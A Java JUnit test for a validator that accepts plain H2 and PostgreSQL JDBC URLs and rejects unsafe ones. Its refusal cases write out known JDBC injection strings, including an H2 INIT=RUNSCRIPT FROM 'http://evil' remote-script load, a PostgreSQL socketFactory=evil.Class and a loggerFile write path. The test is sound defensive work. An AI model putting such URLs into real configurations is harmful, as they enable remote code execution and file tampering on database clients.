package io.millrace.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.millrace.config.bind.Refusal;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:/srv/millrace/features;AUTO_SERVER=TRUE",
                "jdbc:h2:C:/millrace/features",
                "jdbc:h2:file:~/features;ifexists=true",
                "jdbc:h2:mem:features;DB_CLOSE_DELAY=-1",
                "jdbc:h2:tcp://localhost:9092/~/features",
                "jdbc:postgresql://localhost/features",
                "jdbc:postgresql://a:5432,b:5433/features?targetServerType=primary&sslmode=verify-full"
            })
    void acceptsDatabasesAndHarmlessSettings(String url) {
        assertThat(JdbcUrl.check(url)).isEqualTo(url);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    jdbc:mysql://x/y                                  | must begin with jdbc:h2: or jdbc:postgresql://
                    jdbc:postgresql:x                                 | must begin with jdbc:h2: or jdbc:postgresql://
                    jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'   | must not have the setting INIT; allowed are
                    jdbc:h2:mem:x;MODE=MySQL;init=x                   | must not have the setting INIT; allowed are
                    jdbc:h2:mem:x;TRACE_LEVEL_FILE=3                  | must not have the setting TRACE_LEVEL_FILE; allowed are
                    jdbc:h2:mem:x\\;INIT=x                            | must name a file, mem:<name>, tcp://… or ssl://… after jdbc:h2:
                    jdbc:h2:zip:x.zip!/y                              | must name a file, mem:<name>, tcp://… or ssl://… after jdbc:h2:
                    jdbc:h2:nioMemLZF:x                               | must name a file, mem:<name>, tcp://… or ssl://… after jdbc:h2:
                    jdbc:h2:features                                  | must name a file, mem:<name>, tcp://… or ssl://… after jdbc:h2:
                    jdbc:h2:mem:x;PASSWORD=y                          | must not hold the password; use source.jdbc.user and source.jdbc.password-variable
                    jdbc:postgresql://x/y?socketFactory=evil.Class    | must not have the setting socketfactory; allowed are
                    jdbc:postgresql://x/y?ssl=true&loggerFile=/tmp/x  | must not have the setting loggerfile; allowed are
                    jdbc:postgresql://x/y?user=z                      | must not hold the user; use source.jdbc.user and source.jdbc.password-variable
                    jdbc:postgresql://x                               | must name host:port/database after jdbc:postgresql://
                    """)
    void refusesEverythingElse(String url, String message) {
        assertThatThrownBy(() -> JdbcUrl.check(url)).isInstanceOf(Refusal.class).hasMessageStartingWith(message);
    }
}
